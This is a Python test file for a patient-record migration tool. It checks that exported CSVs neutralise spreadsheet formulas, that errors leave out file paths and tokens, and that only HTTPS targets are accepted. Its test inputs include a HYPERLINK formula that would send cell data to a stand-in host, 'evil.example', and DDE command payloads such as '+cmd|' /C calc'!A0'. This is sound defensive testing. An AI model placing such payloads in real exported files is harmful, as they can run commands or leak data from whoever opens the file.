"""Hostile outputs (issue 14, findings 3, 4a, 4b, 4d, 11): what dos2hl writes or raises stays safe when
the export is hostile.

* 3: a cell a spreadsheet would run (``=HYPERLINK(...)``, ``@SUM``, a leading TAB/CR) never reaches a CSV
  a person opens as a formula (``dos2hl.csvsafe``); import packages keep numbers and phones true, and a
  row with a formula-like text goes through the API so HighLevel holds its true value;
* 4a: an OS error's text (a path naming the patient) is never stored: class and errno only;
* 4b: free-text referral sources are reported as canonical channels and counts only;
* 4d: no token is reachable from a raised client error (its chain, attributes or traceback frames);
* 11: ``target`` must be https (http only to this machine).
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import httpx
import pytest
from pydantic import SecretStr

from dos2hl import csvsafe
from tests.hostile.conftest import CANARY, leaks

FIXTURE = Path(__file__).resolve().parent.parent / "fixtures" / "hostile" / "outputs"
FORMULA = f'=HYPERLINK("http://evil.example/?"&A1,"{CANARY}")'
TOKEN = "pit-" + CANARY + "-secret-token"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _runs_formula(cell: str) -> bool:
    """What a spreadsheet reads as a formula (the rule csvsafe guards against), checked independently."""
    head = cell.lstrip(" ")
    if not head or head[0] not in "=+-@\t\r\n":
        return False
    return not all(ch in "0123456789 ().-+" for ch in head)


# -- 3: the shared rule ------------------------------------------------------------------------------
@pytest.mark.parametrize("value", [FORMULA, "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                                   "\t=1+1", "\r=1+1", "  =1+1", "=1"])
def test_a_formula_cell_is_neutralised_and_quoted(value: str) -> None:
    line = csvsafe.line(["id-1", value])
    assert line.startswith('id-1,"\'')  # wrapped in quotes, the quote prefix first
    (row,) = _cells(line)
    assert row == ["id-1", "'" + value]
    assert not _runs_formula(row[1])


@pytest.mark.parametrize("value", ["-12.50", "+1 (555) 010-0100", "+15550100100", "-3", "Smith", "O'Brien",
                                   "a,b", 'say "hi"', "", "x=1"])
def test_numbers_phones_and_plain_text_keep_their_true_value(value: str) -> None:
    (row,) = _cells(csvsafe.line(["id-1", value]))
    assert row == ["id-1", value]


def test_providers_csv_neutralises_a_formula_name(tmp_path: Path) -> None:
    from dos2hl.providers import ProviderReport, ProviderRow

    rep = ProviderReport([ProviderRow("L001", "DR9", FORMULA, "@evil.example", None, None, "none",
                                      f"-{CANARY} <x@example.com>", 3, 1, True)])
    csv_path, _md = rep.write(tmp_path)
    rows = _cells(csv_path.read_text())
    assert rows[1][2] == "'" + FORMULA and rows[1][3] == "'@evil.example"
    assert not any(_runs_formula(c) for r in rows for c in r)


def test_pending_and_excluded_csv_neutralise_export_ids(tmp_path: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    from types import SimpleNamespace

    from dos2hl.execution.report import write_report
    from dos2hl.storage import open_store
    from dos2hl.writing.ledger import LedgerWriter, Op

    run = tmp_path / "run"
    led = LedgerWriter(open_store(str(run)), "r1", writer="t")
    led.add(Op("r1", "L001", "loc1", "patient", "L001/patient/@SUM(1)", "@SUM(A1:A9)", None, "create",
               "failed",
               error="ServerError: HighLevel answered 500"))
    led.close()
    phases = [SimpleNamespace(shards=[{"location": "L001",
                                       "excluded_rows": [["document", FORMULA, "=too big"]]}])]
    rep: dict[str, Any] = {"quarantine_by_code": {}, "field_diff": {"fields": {}, "mismatches": 0}}
    monkeypatch.setattr("dos2hl.execution.report._md", lambda rep: "report")
    monkeypatch.setattr("dos2hl.execution.report._html", lambda rep: "report")
    write_report(str(run), rep, phases)
    pending = _cells((run / "report" / "pending.csv").read_text())
    excluded = _cells((run / "report" / "excluded.csv").read_text())
    assert pending[1][2:4] == ["'L001/patient/@SUM(1)", "'@SUM(A1:A9)"] or pending[1][3] == "'@SUM(A1:A9)"
    assert excluded[1] == ["L001", "document", "'" + FORMULA, "'=too big"]
    assert not any(_runs_formula(c) for r in pending + excluded for c in r)


# -- 3: import packages against the sandbox's importer ----------------------------------------------
def test_a_package_keeps_numbers_and_phones_true_through_the_importer(tmp_path: Path) -> None:
    """The trade-off of the packages (HighLevel's importer reads them, an operator may open them): a
    phone ``+1...`` and an amount ``-12.50`` reach HighLevel with their true value; a formula text is
    neutralised in the file (so HighLevel would hold it with its ``'``) and ``risky_row`` flags the row,
    which the bulk phase sends through the API instead (test below)."""
    from dos2hl.bulk.importer import import_package
    from dos2hl.bulk.packages import contact_row, record_row, risky_row, write_package
    from dos2hl.highlevel import HighLevelClient
    from dos2hl.sandbox import InProcessTransport, create_app, dump, init_locations
    from dos2hl.storage import open_store

    tokens = init_locations(tmp_path / "sb", 1)
    (lid, token), = tokens.items()
    app = create_app(tmp_path / "sb")
    client = HighLevelClient("https://services.leadconnectorhq.com", SecretStr(token), lid,
                             transport=InProcessTransport(app))
    store = open_store(str(tmp_path / "run"))
    rows = [
        contact_row(
            {"firstName": "Max", "lastName": "Minus", "phone": "+18085550142", "email": "m@example.com"}
        ),
        contact_row({"firstName": "Ada", "lastName": FORMULA, "email": "a@example.com"}),
    ]
    assert [risky_row(r) for r in rows] == [False, True]
    pkg = write_package(store, "bulk/contacts", lid, "contacts", rows, dedupe="email")
    text = (tmp_path / "run" / pkg.files[0].key).read_text()
    assert not any(_runs_formula(c) for r in _cells(text) for c in r)
    assert "+18085550142" in text  # the phone is not neutralised
    got = import_package(store, pkg, client)
    assert [r.status for r in got] == ["created", "created"]
    contacts = {c["email"]: c for c in dump(tmp_path / "sb")["locations"][lid]["contacts"]}
    assert contacts["m@example.com"]["phone"] == "+18085550142"
    assert contacts["a@example.com"]["lastName"] == "'" + FORMULA  # why the bulk phase keeps such rows out
    # a negative amount in a number column: a record row
    (row,) = _cells(csvsafe.line(record_row({"amount": -12.5, "source_id": "L1"}).values()))
    assert row == ["-12.5", "L1"]
    client.close()
    app.state.store.close()


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A generated practice plus tests/fixtures/hostile/outputs/ migrated with the bulk path on (threshold
    5), every object mapped; reading one document fails with an OS error naming the canary."""
    from dos2hl.generate import GenerateParams, generate
    from dos2hl.phi import create_key_file
    from dos2hl.pipeline import MigrateParams, migrate
    from tests.migrate.conftest import EXPORT_DATE, make_world
    from tests.migrate.test_every_field import _merge_fixture

    mp = pytest.MonkeyPatch()
    root = tmp_path_factory.mktemp("hostile-outputs")
    mp.setenv("DOS2HL_STORAGE", str(root / "runs"))
    mp.setenv("DOS2HL_PHI_KEY_FILE", str(create_key_file(root / "keys" / "phi.key")))
    generate(root / "gen", GenerateParams(seed=3, patients=20, locations=2, mess="clean", images="stub",
                                          history_years=2))
    _merge_fixture(root / "gen" / "export", FIXTURE)
    w = make_world(root, mp, crm=True, export=root / "gen" / "export")
    import dos2hl.writing.writer_crm as write_crm

    real = write_crm.read_document
    failed: list[str] = []

    def unreadable_once(store: Any, key: str, **kw: Any) -> bytes:  # the upload's read of one document
        if "IMAGES" in key.upper() and not failed:
            failed.append(key)
            raise PermissionError(13, "Permission denied", f"/mnt/export/IMAGES/{CANARY}, Ada/{key}")
        return real(store, key, **kw)

    mp.setattr(write_crm, "read_document", unreadable_once)
    rep = migrate(MigrateParams(source=str(w.export), mapping=str(w.mapping), locations=str(w.locations),
                                 export_date=EXPORT_DATE, workers=2, bulk_threshold=5, sample=0),
                  approve=lambda r: True, client_factory=w.factory)
    yield w, rep, root / "runs" / rep["run_id"], failed
    w.stop()
    mp.undo()


def test_a_formula_name_reaches_highlevel_true_and_no_package_holds_it(hostile_run: Any) -> None:
    w, rep, run, _failed = hostile_run
    contacts = w.dump("L001")["contacts"]
    (ada,) = [c for c in contacts if c.get("email") == "ada.hostile@example.com"]
    assert ada["lastName"] == FORMULA  # its true value: written through the API, not the importer
    assert rep["bulk_imported"]["L001"]["patient"] > 5  # the others did go by CSV
    packages = sorted((run / "bulk").rglob("*.csv"))
    assert packages and leaks(run / "bulk") == []
    for p in packages:
        assert not any(_runs_formula(c) for r in _cells(p.read_text()) for c in r), p.name
    (max_,) = [c for c in contacts if c.get("email") == "max.minus@example.com"]
    assert max_["phone"] == "+18085550142"  # imported by CSV with its "+"


def test_a_negative_amount_is_imported_as_a_number(hostile_run: Any) -> None:
    from dos2hl.storage import open_store
    from dos2hl.writing.ledger import read_ledger

    w, rep, run, _failed = hostile_run
    led = read_ledger(open_store(str(run))).to_pylist()
    (entry,) = [r for r in led if r["object"] == "ledger_entry" and r["source_id"] == "99101"
                and r["outcome"] == "created"]
    assert entry["op"] == "import"  # through the CSV importer
    records = [r for objs in w.dump("L001")["objects"].values() for r in objs]
    (rec,) = [r for r in records if r["id"] == entry["hl_id"]]
    amounts = [v for k, v in rec["properties"].items() if "amount" in k]
    assert amounts == [-12.5]


def test_an_os_error_keeps_class_and_errno_only(hostile_run: Any) -> None:
    from dos2hl.storage import open_store
    from dos2hl.writing.ledger import read_ledger

    w, rep, run, failed = hostile_run
    assert failed, "one document read failed"
    led = read_ledger(open_store(str(run))).to_pylist()
    errors = [r["error"] for r in led if r["outcome"] == "failed" and r["object"] == "document"]
    assert errors and all(e == "PermissionError [errno 13 EACCES]" for e in errors)
    assert leaks(run / "report") == [] and leaks(None, json.dumps(rep, default=str)) == []
    assert not any(CANARY in (r.get("error") or "") for r in led)


def test_free_text_referrals_are_reported_as_channels_and_counts(hostile_run: Any) -> None:
    w, rep, run, _failed = hostile_run
    notes = rep["notices"]
    assert {"canonical": "Google", "rows": notes["referral_variants"][[v["canonical"] for v in
            notes["referral_variants"]].index("Google")]["rows"]} in notes["referral_variants"]
    assert all(set(v) == {"canonical", "rows"} for v in notes["referral_variants"])
    assert notes["referral_unresolved_free_text"] >= 1
    md = (run / "report" / "report.md").read_text()
    assert "| Google |" in md
    # report.md/html/json (the Prefect artifact is report.md's text) and the shard results
    assert leaks(run / "report") == [] and leaks(run / "phases") == []


def test_shard_error_keeps_class_and_errno_only(monkeypatch: pytest.MonkeyPatch) -> None:
    from dos2hl.execution import shard as runmod

    def boom(spec: Any, client: Any) -> Any:
        raise FileNotFoundError(2, "No such file or directory", f"/mnt/export/IMAGES/{CANARY}/x.jpg")

    monkeypatch.setattr(runmod, "migrate_shard", boom)
    spec = type("S", (), {"location": "L001", "shard": 3, "name": "L001-003"})()
    client = type("C", (), {"stats": {}, "tally": None})()
    monkeypatch.setattr(runmod, "snapshot", lambda c: _Zero())
    res = runmod.migrate_shard_isolated(spec, client)  # type: ignore[arg-type]
    assert res.error == "FileNotFoundError [errno 2 ENOENT]"


class _Zero:
    total = http_429 = 0

    def __sub__(self, other: Any) -> _Zero:
        return self

    def to_dict(self) -> dict[str, Any]:
        return {}


def test_safe_error_never_keeps_a_foreign_text() -> None:
    from dos2hl.errors import ServerError, StorageError, safe_error

    assert safe_error(OSError(5, "I/O error", f"/x/{CANARY}")) == "OSError [errno 5 EIO]"
    assert safe_error(StorageError(f"S3 get of s3://b/IMAGES/{CANARY}.jpg failed")) == "StorageError"
    assert safe_error(ValueError(CANARY)) == "ValueError"
    assert safe_error(ServerError(503, method="POST", path="/contacts/", stable_key="L001/patient/7")) == (
        "ServerError: HighLevel answered 503 (POST /contacts/, stable key L001/patient/7)")


# -- 4d: no token reachable from a raised client error ----------------------------------------------
def _reachable(exc: BaseException, needle: str) -> list[str]:
    """Where ``needle`` shows in anything reachable from ``exc``: its __cause__/__context__ chain, their
    attributes (recursively, a bounded walk) and the locals of their traceback frames."""
    found: list[str] = []
    seen: set[int] = set()
    todo: list[tuple[str, Any, int]] = [("exc", exc, 0)]
    while todo:
        where, obj, depth = todo.pop()
        if id(obj) in seen or depth > 6:
            continue
        seen.add(id(obj))
        if isinstance(obj, (str, bytes)):
            if (needle.encode() if isinstance(obj, bytes) else needle) in obj:
                found.append(where)
            continue
        if isinstance(obj, (int, float, bool, type(None), type)):
            continue
        if isinstance(obj, SecretStr):
            continue  # masked: its value is only reachable by an explicit call
        try:
            text = repr(obj)
        except Exception:  # noqa: BLE001
            text = ""
        if needle in text:
            found.append(where + " (repr)")
        kids: list[tuple[str, Any]] = []
        if isinstance(obj, BaseException):
            kids += [("__cause__", obj.__cause__), ("__context__", obj.__context__), ("args", obj.args)]
            tb = obj.__traceback__
            while tb is not None:
                kids += [(f"frame {tb.tb_frame.f_code.co_name} {k}", v)
                         for k, v in tb.tb_frame.f_locals.items()
                         if k != "self"]
                tb = tb.tb_next
        if isinstance(obj, dict):
            kids += [(f"[{k!r}]", v) for k, v in obj.items()]
        elif isinstance(obj, (list, tuple, set)):
            kids += [(f"[{i}]", v) for i, v in enumerate(obj)]
        elif isinstance(obj, (httpx.Request, httpx.Response, httpx.Headers)):
            kids.append(("headers", dict(getattr(obj, "headers", obj))))
        d = getattr(obj, "__dict__", None)
        if isinstance(d, dict) and not isinstance(obj, type):
            kids += [(f".{k}", v) for k, v in d.items()]
        todo += [(f"{where}{name}", v, depth + 1) for name, v in kids]
    return found


@pytest.mark.parametrize("failure", ["connect", "read_timeout", "401", "bad_shape"])
def test_no_token_is_reachable_from_a_client_error(failure: str) -> None:
    from dos2hl.errors import HighLevelError
    from dos2hl.highlevel import HighLevelClient, RetryPolicy

    def handler(request: httpx.Request) -> httpx.Response:
        assert request.headers["authorization"] == f"Bearer {TOKEN}"  # it was sent, so it was in memory
        if failure == "connect":
            raise httpx.ConnectError("connection refused", request=request)
        if failure == "read_timeout":
            raise httpx.ReadTimeout("timed out", request=request)
        if failure == "401":
            return httpx.Response(401, json={"statusCode": 401, "message": "Invalid token"}, request=request)
        return httpx.Response(200, json={"location": {"id": 7}}, request=request)

    client = HighLevelClient("https://services.leadconnectorhq.com", SecretStr(TOKEN), "loc1",
                             transport=httpx.MockTransport(handler),
                             retry=RetryPolicy(max_attempts=1, backoff_base=0, backoff_cap=0, jitter=0,
                                               verify_delay=0), sleep=lambda s: None)
    with pytest.raises(HighLevelError) as info:
        client.get_location()
    assert _reachable(info.value, TOKEN) == []
    assert info.value.__context__ is None and info.value.__cause__ is None
    client.close()


def test_no_token_is_reachable_from_an_import_error() -> None:
    from dos2hl.bulk.importer import sandbox_import
    from dos2hl.errors import HighLevelError

    def handler(request: httpx.Request) -> httpx.Response:
        raise httpx.ConnectError("connection refused", request=request)

    from dos2hl.highlevel import HighLevelClient, RetryPolicy

    client = HighLevelClient("http://127.0.0.1:9", SecretStr(TOKEN), "loc",
                             transport=httpx.MockTransport(handler),
                             retry=RetryPolicy(max_attempts=2, backoff_base=0), sleep=lambda _s: None)
    with pytest.raises(HighLevelError) as info:
        sandbox_import(client, "contacts", b"email\nx@example.com\n")
    assert _reachable(info.value, TOKEN) == []
    client.close()


def test_the_walk_finds_a_token_left_in_a_context() -> None:
    """The walker itself: an error raised "from None" inside the except still reaches the request."""
    request = httpx.Request("GET", "https://x.example/", headers={"Authorization": f"Bearer {TOKEN}"})
    try:
        try:
            raise httpx.ConnectError("refused", request=request)
        except httpx.ConnectError:
            raise RuntimeError("wrapped") from None
    except RuntimeError as exc:
        assert _reachable(exc, TOKEN)


# -- 11: transport ------------------------------------------------------------------------------------
@pytest.mark.parametrize("target", ["http://services.leadconnectorhq.com", "http://10.0.0.5:8080",
                                    "http://localhost.evil.example", "ftp://x.example",
                                    "services.leadconnectorhq.com"])
def test_a_cleartext_or_odd_target_is_refused(tmp_path: Path, target: str) -> None:
    import yaml

    from dos2hl.errors import ConfigError
    from dos2hl.highlevel import HighLevelClient
    from dos2hl.locations import load_locations

    body = {"target": target, "locations": [{"source": "L001", "location_id": "loc1", "token_env": "T1"}]}
    path = tmp_path / "locations.yaml"
    path.write_text(yaml.safe_dump(body))
    with pytest.raises(ConfigError, match="target"):
        load_locations(path)
    body["target"] = "https://services.leadconnectorhq.com"
    path.write_text(yaml.safe_dump(body))
    with pytest.raises(ConfigError, match="target"):
        load_locations(path, target=target)  # --target on the command line
    with pytest.raises(ConfigError, match="target"):
        HighLevelClient(target, SecretStr("t"), "loc1")


@pytest.mark.parametrize("target", ["https://services.leadconnectorhq.com/", "http://127.0.0.1:5066",
                                    "http://localhost:5058", "http://[::1]:8000"])
def test_https_and_loopback_http_are_accepted(tmp_path: Path, target: str) -> None:
    import yaml

    from dos2hl.locations import load_locations

    path = tmp_path / "locations.yaml"
    path.write_text(yaml.safe_dump({"target": target, "locations": [
        {"source": "L001", "location_id": "loc1", "token_env": "T1"}]}))
    assert load_locations(path).target == target.rstrip("/")


def test_the_cli_refuses_a_cleartext_target_with_a_clear_error(tmp_path: Path) -> None:
    import yaml
    from typer.testing import CliRunner

    from dos2hl.cli import app

    path = tmp_path / "locations.yaml"
    path.write_text(yaml.safe_dump({"locations": [{"source": "L001", "location_id": "loc1",
                                                   "token_env": "T1"}]}))
    res = CliRunner().invoke(app, ["providers", str(tmp_path), "--locations", str(path), "--out",
                                   str(tmp_path / "o"),
                                   "--target", "http://hl.example"])
    assert res.exit_code == 2, res.output
    assert "cleartext" in res.output and "https://" in res.output
